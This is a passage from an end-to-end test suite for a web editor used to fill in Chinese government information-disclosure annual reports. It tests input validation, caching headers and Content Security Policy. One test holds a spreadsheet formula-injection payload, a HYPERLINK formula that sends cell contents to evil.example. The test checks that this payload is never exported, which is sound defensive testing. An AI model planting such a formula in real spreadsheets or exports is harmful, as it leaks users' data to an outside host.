  expect(await visit(`/office?organ=${ids.district}&year=99999999999`, cookies.office)).toBe('ok');
  expect(await visit(`/office/rollup?organ=${ids.district}&year=99999999999`, cookies.office)).toBe('ok');
});

test('a draft body that is not UTF-8, or holds NUL or a lone surrogate, is 400 naming the field; nothing is stored', async () => {
  const { version: before, report } = await ownCurrent();
  const notUtf8 = Buffer.concat([Buffer.from('{"baseVersion":1,"report":{"parts":{"overview":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}}}')]);
  const answers = [await putOwn(notUtf8)];
  for (const [part, text] of [['overview', '公开\u0000'], ['other', '处理费\ud800']]) {
    answers.push(await putOwn(JSON.stringify({ baseVersion: before, report: { ...report, parts: { ...report.parts, [part]: text } } })));
  }
  expect(answers.map((a) => [a.status, JSON.parse(a.text).error])).toEqual([
    [400, '提交的内容不是有效的 UTF-8 文本'],
    [400, expect.stringContaining('「一、总体情况」含有不可见的控制字符')],
    [400, expect.stringContaining('「六、其他需要报告的事项」含有无法识别的残缺字符')],
  ]);
  expect((await ownCurrent()).version).toBe(before);
});

test('a formula typed into a cell is kept as pending input, never exported; exports and downloads are not cached', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
  const { version, report } = await ownCurrent();
  const inCell = { ...report, tables: { ...report.tables, active: { ...report.tables.active, licensing: formula } } };
  const refused = await putOwn(JSON.stringify({ baseVersion: version, report: inCell }));
  expect([refused.status, JSON.parse(refused.text).error]).toEqual([400, expect.stringContaining('第二十条第（五）项 / 行政许可 / 本年处理决定数量')]);
  const pending = { ...inCell, tables: { ...report.tables, active: { ...report.tables.active, licensing: null } }, pendingInput: { 'active.licensing': formula } };
  expect((await putOwn(JSON.stringify({ baseVersion: version, report: pending }))).status).toBe(200);
  for (const format of ['csv', 'xlsx', 'json']) {
    const r = await fetch(`${base}/api/exports?organ=${ids.town}&year=2093&format=${format}`, { headers: { cookie: cookies.clerk! } });
    expect(r.status).toBe(200);
    expect(r.headers.get('cache-control')).toContain('no-store');
    expect(Buffer.from(await r.arrayBuffer()).toString('utf8')).not.toContain('HYPERLINK');
  }
  const download = await fetch(`${base}/reports/${ids.own}/download/docx`, { headers: { cookie: cookies.clerk! } });
  expect(download.headers.get('cache-control')).toContain('no-store');
});

test("the editor runs under a CSP with a nonce and no 'unsafe-inline' for scripts: typing saves, no violation", async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (m) => m.type() === 'error' && /Content Security Policy|CSP/i.test(m.text()) && violations.push(m.text()));
  await page.addInitScript(() => document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`)));
  const { version, report } = await ownCurrent();
  const typed = { ...report, tables: { ...report.tables, active: { ...report.tables.active, licensing: null } }, pendingInput: { 'active.licensing': '=1+1' } };
  expect((await putOwn(JSON.stringify({ baseVersion: version, report: typed }))).status).toBe(200);
  await signInPage(page, 'clerk');
  const response = await page.goto(`/reports/${ids.own}`);
  const policy = response!.headers()['content-security-policy'] ?? '';
  const scripts = policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src')) ?? '';
  expect(scripts).toMatch(/'nonce-[A-Za-z0-9+/=]{16,}'/);
  expect(scripts).not.toContain("'unsafe-inline'");
  const nonce = /'nonce-([^']+)'/.exec(scripts)![1];
  expect(await page.locator('script[nonce]').count()).toBeGreaterThan(0);
  expect((await fetch(`${base}/reports/${ids.own}`, { headers: { cookie: cookies.clerk! } })).headers.get('content-security-policy')).not.toContain(nonce);
  // Pending input is back in its cell, marked as VALUE-FORMAT; a number typed elsewhere saves.
  const licensing = page.getByRole('textbox', { name: '第二十条第（五）项 / 行政许可 / 本年处理决定数量', exact: true });
  await expect(licensing).toHaveValue('=1+1');
  await expect(licensing).toHaveAttribute('aria-invalid', 'true');
  await page.getByRole('textbox', { name: '第二十条第（六）项 / 行政处罚 / 本年处理决定数量', exact: true }).fill('12');
  await expect(page.getByRole('status', { name: '保存状态' })).toContainText('已保存', { timeout: 15_000 });
  expect(violations).toEqual([]);
});
